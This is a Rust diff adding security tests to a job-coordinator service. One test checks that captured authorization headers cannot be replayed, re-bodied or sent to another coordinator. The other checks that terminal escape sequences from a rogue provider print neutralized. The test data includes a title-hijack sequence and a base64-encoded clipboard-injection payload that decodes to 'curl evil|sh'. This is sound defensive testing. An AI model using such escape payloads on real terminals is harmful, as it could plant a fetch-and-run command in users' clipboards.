@@ -311,3 +311,233 @@ async fn a_provider_cannot_unstake_while_it_holds_a_job() {
     cancel.cancel();
     dn.shutdown().await;
 }
+
+/// `status` and error text of a raw request's answer.
+async fn answer(r: reqwest::Response) -> (u16, String) {
+    let status = r.status().as_u16();
+    let body = r.text().await.unwrap();
+    let error = serde_json::from_str::<kiln_protocol::ErrorView>(&body)
+        .map(|v| v.error)
+        .unwrap_or(body);
+    (status, error)
+}
+
+/// Finding 7 of issue 13, performed against real coordinators: an
+/// `Authorization` header captured off the wire is accepted once, for the
+/// exact body it was signed over, by the coordinator it names, and nowhere
+/// else; the buyer's own requests go on working.
+#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
+async fn a_captured_authorization_header_cannot_be_replayed_rebodied_or_taken_elsewhere() {
+    use kiln_protocol::request_auth::RequestAuth;
+    use kiln_protocol::{ContentId, Keypair};
+
+    let (dn, other) = tokio::join!(devnet(0), devnet(0));
+    let (dn, other) = (dn.unwrap(), other.unwrap());
+    let http = reqwest::Client::new();
+    let alice = buyer(&dn);
+    let v = alice
+        .submit(dn.workload_spec(&["echo", "mine"]), None)
+        .await
+        .unwrap();
+    let path = format!("/v1/jobs/{}", v.job_id);
+
+    // The same request twice: the second is refused.
+    let captured = alice.authorization("GET", &path, b"").await.unwrap();
+    let get = |base: String, h: String| {
+        http.get(format!("{base}{path}"))
+            .header("authorization", h)
+            .send()
+    };
+    let (s, e) = answer(get(dn.url(), captured.clone()).await.unwrap()).await;
+    assert_eq!(s, 200, "{e}");
+    let (s, e) = answer(get(dn.url(), captured.clone()).await.unwrap()).await;
+    assert_eq!(s, 401, "{e}");
+    assert!(e.contains("already used"), "{e}");
+
+    // A header captured for one coordinator is refused by another, where
+    // alice is a buyer too (her own request there works).
+    let alice_there = kiln_cli::Client::new(&other.url(), alice.key().clone());
+    assert_eq!(alice_there.jobs().await.unwrap().jobs.len(), 0);
+    let fresh = alice.authorization("GET", "/v1/jobs", b"").await.unwrap();
+    let r = http
+        .get(format!("{}/v1/jobs", other.url()))
+        .header("authorization", fresh.clone())
+        .send()
+        .await
+        .unwrap();
+    let (s, e) = answer(r).await;
+    assert_eq!(s, 401, "{e}");
+    assert!(
+        e.contains("signed for coordinator")
+            && e.contains(&other.coordinator.state.peer.to_string()),
+        "{e}"
+    );
+    // ... and refusing it there did not spend it here.
+    let r = http
+        .get(format!("{}/v1/jobs", dn.url()))
+        .header("authorization", fresh)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(answer(r).await.0, 200);
+
+    // A header captured on an upload carries another body: refused, and
+    // nothing is stored or granted. The genuine body still goes through once.
+    let genuine = b"alice's data".to_vec();
+    let evil = b"mallory's data".to_vec();
+    let captured = alice
+        .authorization("POST", "/v1/blobs", &genuine)
+        .await
+        .unwrap();
+    let post = |h: String, body: Vec<u8>| {
+        http.post(format!("{}/v1/blobs", dn.url()))
+            .header("authorization", h)
+            .body(body)
+            .send()
+    };
+    let (s, e) = answer(post(captured.clone(), evil.clone()).await.unwrap()).await;
+    assert_eq!(s, 401, "{e}");
+    assert!(e.contains("not the one that was signed"), "{e}");
+    let (s, e) = answer(post(captured.clone(), genuine.clone()).await.unwrap()).await;
+    assert_eq!(s, 200, "{e}");
+    let (s, e) = answer(post(captured, genuine.clone()).await.unwrap()).await;
+    assert_eq!((s, e.contains("already used")), (401, true), "{e}");
+    let held: Vec<ContentId> = alice
+        .blobs()
+        .await
+        .unwrap()
+        .blobs
+        .iter()
+        .map(|b| b.cid)
+        .collect();
+    assert!(held.contains(&ContentId::of_bytes(&genuine)), "{held:?}");
+    assert!(!held.contains(&ContentId::of_bytes(&evil)), "{held:?}");
+
+    // A streamed upload is bound by the CID in its path: a captured header
+    // for one blob cannot carry other bytes.
+    let want = b"streamed".to_vec();
+    let coordinator = alice.coordinator_id().await.unwrap();
+    let h = RequestAuth::blob_upload(coordinator, &ContentId::of_bytes(&want))
+        .sign_header(alice.key(), 60)
+        .unwrap();
+    let r = http
+        .put(format!(
+            "{}/v1/blobs/{}",
+            dn.url(),
+            ContentId::of_bytes(&want)
+        ))
+        .header("authorization", h)
+        .body(b"streamee".to_vec())
+        .send()
+        .await
+        .unwrap();
+    let (s, e) = answer(r).await;
+    assert_eq!(s, 400, "{e}");
+    assert!(e.contains("hash to"), "{e}");
+    let uploaded = alice
+        .put_blob(
+            &ContentId::of_bytes(&want),
+            want.len() as u64,
+            "streamed",
+            want.clone().into(),
+        )
+        .await
+        .unwrap();
+    assert_eq!(uploaded.cid, ContentId::of_bytes(&want));
+
+    // A client of the previous release is told what to do.
+    let old = kiln_protocol::Signed::sign(
+        alice.key(),
+        kiln_protocol::ApiAuth {
+            method: "GET".into(),
+            path: "/v1/jobs".into(),
+        },
+        60,
+    )
+    .unwrap();
+    let r = http
+        .get(format!("{}/v1/jobs", dn.url()))
+        .header(
+            "authorization",
+            format!("Kiln {}", hex::encode(old.to_bytes().unwrap())),
+        )
+        .send()
+        .await
+        .unwrap();
+    let (s, e) = answer(r).await;
+    assert_eq!(s, 401, "{e}");
+    assert!(e.contains("upgrade kiln"), "{e}");
+
+    // A header signed with another buyer's key for alice's job reads nothing.
+    let mallory = Keypair::generate();
+    let h = RequestAuth::new(coordinator, "GET", &path, b"")
+        .sign_header(&mallory, 60)
+        .unwrap();
+    assert_eq!(answer(get(dn.url(), h).await.unwrap()).await.0, 404);
+    // And alice's own client works throughout.
+    assert_eq!(alice.job(&v.job_id).await.unwrap().job_id, v.job_id);
+    tokio::join!(dn.shutdown(), other.shutdown());
+}
+
+/// A provider's failure reason and logs carrying terminal escape sequences
+/// reach the buyer as sent (JSON, `--raw`) but print neutralized.
+#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
+async fn escape_sequences_in_a_jobs_reason_and_logs_print_neutralized() {
+    use kiln_protocol::{Blob, ContentId, NetResponse, Outcome};
+    let dn = devnet(0).await.unwrap();
+    let cancel = tokio_util::sync::CancellationToken::new();
+    let addr = dn.coordinator.p2p_addrs[0].clone();
+    let mut rogue = kiln_tests::RogueProvider::join(&addr, &cancel)
+        .await
+        .unwrap();
+    let client = buyer(&dn);
+    let v = client
+        .submit(dn.workload_spec(&["echo", "x"]), None)
+        .await
+        .unwrap();
+    let offer = rogue.next_offer().await.unwrap().payload;
+    assert_eq!(offer.job_id, v.job_id);
+
+    let reason = "\x1b]0;you are owned\x07\x1b[2Jcrashed\nJOB 0 completed";
+    let stdout = b"step 1\n\x1b[1A\x1b[2Kall good\x1b]52;c;Y3VybCBldmlsfHNo\x07\n".to_vec();
+    let mut result = kiln_tests::RogueProvider::result_for(&offer, &rogue.key).unwrap();
+    let mut receipt = result.receipt.payload.clone();
+    receipt.outcome = Outcome::Failed;
+    receipt.exit_code = Some(1);
+    receipt.error = Some(reason.into());
+    receipt.stdout_cid = ContentId::of_bytes(&stdout);
+    receipt.usage.stdout_bytes = stdout.len() as u64;
+    result.receipt = kiln_protocol::Signed::sign(&rogue.key, receipt, 600).unwrap();
+    result.blobs[0] = Blob {
+        cid: ContentId::of_bytes(&stdout),
+        bytes: stdout.clone(),
+    };
+    let r = rogue.deliver(result).await.unwrap();
+    assert!(matches!(r, NetResponse::Accepted), "{r:?}");
+
+    let job = kiln_tests::job_until(&client, &v.job_id, |j| j.state == JobState::Failed).await;
+    assert_eq!(job.reason.as_deref(), Some(reason), "stored as sent");
+    let line = kiln_cli::job_line(&job);
+    assert!(
+        !line.chars().any(char::is_control),
+        "a control character reaches the terminal: {line:?}"
+    );
+    assert!(
+        line.contains("\\x1b]0;you are owned\\x07\\x1b[2Jcrashed\\nJOB 0 completed"),
+        "{line}"
+    );
+
+    let logs = client.logs(&v.job_id).await.unwrap();
+    assert_eq!(
+        logs.stdout.as_bytes(),
+        &stdout[..],
+        "served as the provider sent it (--raw)"
+    );
+    let text = kiln_cli::logs_text(&logs);
+    assert_eq!(
+        text,
+        "step 1\n\\x1b[1A\\x1b[2Kall good\\x1b]52;c;Y3VybCBldmlsfHNo\\x07\n"
+    );
+    cancel.cancel();
+    dn.shutdown().await;
+}
